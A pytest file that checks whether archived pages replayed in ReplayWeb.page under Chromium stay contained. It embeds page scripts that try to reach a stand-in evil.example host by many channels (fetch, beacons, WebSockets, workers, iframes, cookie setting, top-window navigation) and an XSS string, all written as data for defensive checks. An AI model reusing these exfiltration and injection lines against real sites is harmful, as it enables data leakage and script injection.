"""ReplayWeb.page in Chromium: archived pages as they were, and nothing of them reaches anywhere else."""

import json
import shutil
import socket
import subprocess
import sys
import threading
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from pathlib import Path

import httpx
import pytest

from archive.collection import Collection
from archive.errors import IntegrityError, NotFoundError, StorageError, UsageError
from archive.export.wacz import export_wacz
from archive.player import FILES, find_player, install_player, require_player
from archive.query import Archive
from archive.web import app
from archive.web.replaying import Stage, application
from tests.cli.archives import BEGAN, HOST, exchange, lay_run
from tests.evidence.browsing import Browser
from tests.web.conftest import serving
from tests.web.test_records import answer, png

needs_player = pytest.mark.skipif(
    find_player() is None or shutil.which("chromium") is None,
    reason="needs chromium, and ReplayWeb.page, which everyone fetches for himself: vigil player fetch",
)
STYLE = b"""@font-face{font-family:x;src:url(https://elsewhere.example/x.woff)} h1{color:rgb(1,2,3);font-family:x}
.bg{width:9px;height:9px;background:url(/img/lamp.png)}"""
SCRIPT = b"""
document.body.dataset.ran = 'yes';
const evil = 'https://evil.example/';
const add = (tag, told) => document.body.appendChild(Object.assign(document.createElement(tag), told));
for (const act of [
  () => fetch(evil), () => { new Image().src = evil + 'image'; }, () => new WebSocket('wss://evil.example/socket'),
  () => navigator.sendBeacon(evil + 'beacon', 'x'), () => new EventSource(evil + 'events'),
  () => import(evil + 'module.js'),
  () => { add('iframe', { src: evil + 'frame' }); }, () => { add('link', { rel: 'prefetch', href: evil + 'link' }); },
  () => { add('link', { rel: 'dns-prefetch', href: evil }); }, () => { add('video', { src: evil + 'video' }); },
  () => add('iframe', {}).contentWindow.fetch(evil + 'inner'),
  () => { new Worker(URL.createObjectURL(new Blob(["fetch('https://evil.example/worker')"]))); },
  () => { document.cookie = 'stolen=1'; },
]) { try { const done = act(); if (done && done.catch) done.catch(() => {}); } catch (error) { /* refused */ } }
"""
LEAVING = b"<script>open('https://evil.example/window'); top.location = 'https://evil.example/top'</script>"
PAGE = f"""<!DOCTYPE html><html><head><title>Lamp</title>
<link rel="stylesheet" href="/style.css"></head><body><h1>The lamp</h1><p>The keeper counts gulls.</p>
<img src="/img/lamp.png" alt="A lamp"><img src="https://elsewhere.example/x.png" alt="Gone">
<div class="bg"></div><a href="{HOST}/next">next</a><script src="/script.js"></script></body></html>"""
# The frame that shows the page: the player is frames in frames, some of them in shadow trees.
SHOWN = """(() => { let found = null; const walk = root => { for (const one of root.querySelectorAll('*')) {
  if (one.shadowRoot) walk(one.shadowRoot);
  if (one.tagName === 'IFRAME') { let inner = null; try { inner = one.contentDocument } catch (error) {}
    if (inner && inner.body) { if (inner.location.href.includes('mp_/')) found = found || inner; walk(inner); } } } };
  walk(document); return found; })()"""


@pytest.fixture(scope="module")
def collection(tmp_path_factory: pytest.TempPathFactory) -> Collection:
    made = Collection(tmp_path_factory.mktemp("played") / "collection")
    later = PAGE.replace("counts gulls", "counts boats")
    lay_run(
        made,
        "first",
        BEGAN,
        answer(1, "/lamp", PAGE.encode(), "text/html; charset=utf-8"),
        answer(2, "/style.css", STYLE, "text/css"),
        answer(3, "/img/lamp.png", png(), "image/png"),
        answer(4, "/script.js", SCRIPT, "text/javascript"),
        answer(6, "/leaving", LEAVING, "text/html"),
        exchange(5, "/a/lamp/101.html", PAGE.replace("counts gulls", "counts owls").encode()),
    )
    lay_run(made, "second", BEGAN.replace(day=9), answer(1, "/lamp", later.encode(), "text/html", days=8))
    return made


@pytest.fixture(scope="module")
def outside() -> Iterator[tuple[int, list[bytes]]]:
    """A proxy that everything beyond this machine would have to pass, and what it was asked."""
    asked: list[bytes] = []
    with socket.create_server(("127.0.0.1", 0)) as listener:

        def take() -> None:
            with suppress(OSError):
                while True:
                    taken, _ = listener.accept()
                    with taken:
                        asked.append(taken.recv(4096).partition(b"\r\n")[0])

        threading.Thread(target=take, daemon=True).start()
        yield listener.getsockname()[1], asked
        listener.shutdown(socket.SHUT_RDWR)


@pytest.fixture(scope="module")
def browser(outside: tuple[int, list[bytes]], tmp_path_factory: pytest.TempPathFactory) -> Iterator[Browser]:
    # The main pages of the archive are 127.0.0.1 too, so these are asked without the proxy.
    words = (
        f"--proxy-server=http://127.0.0.1:{outside[0]}",
        "--proxy-bypass-list=127.0.0.1",
        "--disable-features=OptimizationHints",
    )
    with Browser(tmp_path_factory.mktemp("player"), *words) as running:
        yield running


@contextmanager
def opened(file: Path, folder: Path) -> Iterator[str]:
    words = [sys.executable, "-m", "archive", "player", "open", str(file), "--port", "0"]
    with subprocess.Popen(words, cwd=folder, stdout=subprocess.PIPE, text=True) as process:
        assert process.stdout is not None
        try:
            yield process.stdout.readline().strip().rstrip("/")
        finally:
            process.terminate()
            process.wait(timeout=30)


def shown(browser: Browser, words: str) -> None:
    browser.wait(f"(({SHOWN})?.body?.innerText || '').includes({json.dumps(words)})")


def strayed(asked: list[bytes]) -> list[bytes]:
    """What was asked beyond this machine by pages; Chromium asks its maker by itself."""
    return [one for one in asked if b".google.com:" not in one and b".googleapis.com:" not in one]


def inner(browser: Browser, script: str) -> object:
    return browser.ask(f"(page => {script})({SHOWN})")


@needs_player
@pytest.mark.reader
def test_page_is_as_it_was_and_nothing_of_it_reaches_out(
    browser: Browser, outside: tuple[int, list[bytes]], collection: Collection, tmp_path: Path
) -> None:
    before = len(outside[1])
    with serving(collection, tmp_path) as address:
        browser.resize(1280, 900)
        browser.open(f"{address}/as-it-was/20260801/{HOST}/lamp")
        address_of_player = browser.ask("document.querySelector('iframe').src").partition("/?")[0]
        assert address_of_player != address
        # The frame is of another origin, so its inside is looked at by itself.
        browser.open(browser.ask("document.querySelector('iframe').src"))
        shown(browser, "The keeper counts gulls")
        browser.wait(f"({SHOWN})?.body?.dataset?.ran === 'yes'")
        assert inner(browser, "getComputedStyle(page.querySelector('h1')).color") == "rgb(1, 2, 3)"
        browser.wait(f"({SHOWN})?.images[0]?.naturalWidth === 40")
        assert browser.ask("location.href").startswith(address_of_player)
        browser.open(f"{address_of_player}/?url={HOST}/lamp&ts=20260809030001")
        shown(browser, "The keeper counts boats")
        browser.wait(f"({SHOWN})?.images[0]?.naturalWidth === 40")
        browser.open(f"{address_of_player}/?url={HOST}/leaving&ts=20260801")
        browser.wait(f"({SHOWN})?.location.href.includes('evil.example/')")
        assert browser.ask("location.href").startswith(address_of_player)
    assert strayed(outside[1][before:]) == []


@needs_player
@pytest.mark.reader
def test_what_reaches_out_is_counted(browser: Browser, outside: tuple[int, list[bytes]]) -> None:
    browser.open("data:text/html,<img src='http://control.example/picture'>")
    assert [one for one in strayed(outside[1]) if b"control.example" in one]


@pytest.fixture(scope="module")
def files(collection: Collection, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """What one hands on: a WACZ of all, the WARC of a capture, and a package with that WARC in it."""
    folder = tmp_path_factory.mktemp("handed")
    with Archive.open(collection) as archive:
        export_wacz(archive, collection, folder / "all.wacz")
    words = [sys.executable, "-m", "archive", "get", f"{HOST}/a/lamp/101.html", "--warc", "-C", str(collection.root)]
    subprocess.run([*words, "-o", "one.warc.gz"], cwd=folder, check=True, capture_output=True)
    with zipfile.ZipFile(folder / "package.zip", "w") as package:
        package.write(folder / "one.warc.gz", "exhibit/evidence.warc.gz")
    return folder


@needs_player
@pytest.mark.reader
@pytest.mark.parametrize("name", ["all.wacz", "one.warc.gz", "package.zip"])
def test_file_that_was_handed_on_opens_in_the_player(
    browser: Browser, outside: tuple[int, list[bytes]], files: Path, name: str
) -> None:
    before = len(outside[1])
    with opened(files / name, files) as address:
        browser.open(f"{address}/?url={HOST}/a/lamp/101.html&ts=20260801")
        shown(browser, "The keeper counts owls")
    assert strayed(outside[1][before:]) == []


@needs_player
@pytest.mark.reader
def test_post_whose_edit_was_taken_back_shows_the_text_of_each_time(browser: Browser, tmp_path: Path) -> None:
    made = Collection(tmp_path / "collection")
    owls, boats = (PAGE.replace("counts gulls", f"counts {what}").encode() for what in ("owls", "boats"))
    for day, body in ((1, owls), (4, boats), (9, owls)):
        night = BEGAN.replace(day=day)
        twin = [exchange(2, "/a/twin/102.html", owls, began=night)] if day == 1 else []
        lay_run(made, f"run-{day}", night, exchange(1, "/a/lamp/101.html", body, began=night), *twin)
    with Archive.open(made) as archive:
        export_wacz(archive, made, tmp_path / "all.wacz")
    with opened(tmp_path / "all.wacz", tmp_path) as address:
        for path, time, what in (
            ("/a/lamp/101.html", "20260809030001", "owls"),
            ("/a/twin/102.html", "20260801030002", "owls"),
            ("/a/lamp/101.html", "20260804030001", "boats"),
        ):
            browser.open(f"{address}/?url={HOST}{path}&ts={time}")
            shown(browser, f"The keeper counts {what}")


@needs_player
@pytest.mark.reader
@pytest.mark.parametrize("width", [1280, 360])
def test_pages_around_the_player_fit_and_are_told_to_a_screen_reader(
    browser: Browser, collection: Collection, tmp_path: Path, width: int
) -> None:
    with serving(collection, tmp_path) as address:
        browser.resize(width, 900)
        for path, heading in (
            (f"/as-it-was/20260801/{HOST}/lamp", "As it was"),
            (f"/side-by-side?url={HOST}/lamp&left=20260801&right=20260809", "Side by side"),
            (f"/history/{HOST}/lamp", "Captures"),
        ):
            browser.open(f"{address}{path}")
            assert browser.ask("document.documentElement.scrollWidth") <= width, path
            met = browser.read_out()
            assert ("heading", heading) in met
            assert {"banner", "navigation", "main", "contentinfo"} <= {role for role, _ in met}
            assert not [role for role, name in met if role in {"link", "button", "radio", "Iframe"} and not name], path


async def test_player_answers_for_its_own_and_for_captures_as_sent_only(collection: Collection) -> None:
    if find_player() is None:
        pytest.skip("needs ReplayWeb.page, which everyone fetches for himself: vigil player fetch")
    stage = Stage(player=require_player(), desk=app.desk(collection), pages=("http://127.0.0.1:8001",))
    transport = httpx.ASGITransport(app=application(stage))
    async with httpx.AsyncClient(transport=transport, base_url="http://127.0.0.1:8002") as client:
        page = await client.get("/play", params={"url": '"><script>alert(1)</script>', "ts": "20260801"})
        assert "<script>alert" not in page.text
        policy = page.headers["content-security-policy"]
        assert "frame-ancestors 'self' http://127.0.0.1:8001" in policy
        assert "connect-src 'self' data:;" in policy
        sent = await client.get(f"/web/20260801id_/{HOST}/lamp")
        assert sent.text == PAGE
        assert sent.headers["content-security-policy"] == "default-src 'none'; sandbox"
        for path in ("/search", "/archive.json", f"/web/20260801/{HOST}/lamp", "/file/archive.wacz", "/../x"):
            assert (await client.get(path)).status_code == 404
        assert (await client.get(f"/web/2026id_/{HOST}/nothing")).status_code == 404
        assert (await client.get("/", headers={"host": "evil.example"})).status_code == 421
        assert (await client.post("/")).status_code == 405
        assert "set-cookie" not in page.headers


def test_player_is_kept_only_if_it_is_the_pinned_one(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("VIGIL_PLAYER", str(tmp_path / "player"))
    assert find_player() is None
    with pytest.raises(NotFoundError, match="not on this machine"):
        require_player()
    package = tmp_path / "replaywebpage.tgz"
    with pytest.raises(UsageError):
        install_player(package)
    package.write_bytes(b"something else")
    with pytest.raises(IntegrityError, match="not the package"):
        install_player(package)
    assert find_player() is None
    (tmp_path / "player").mkdir()
    for name in FILES:
        (tmp_path / "player" / name).write_bytes(b"altered")
    player = require_player()
    with pytest.raises(IntegrityError, match=r"is not ui\.js of replaywebpage"):
        player.read("ui.js")
    (tmp_path / "player" / "sw.js").unlink()
    with pytest.raises(StorageError):
        player.read("sw.js")
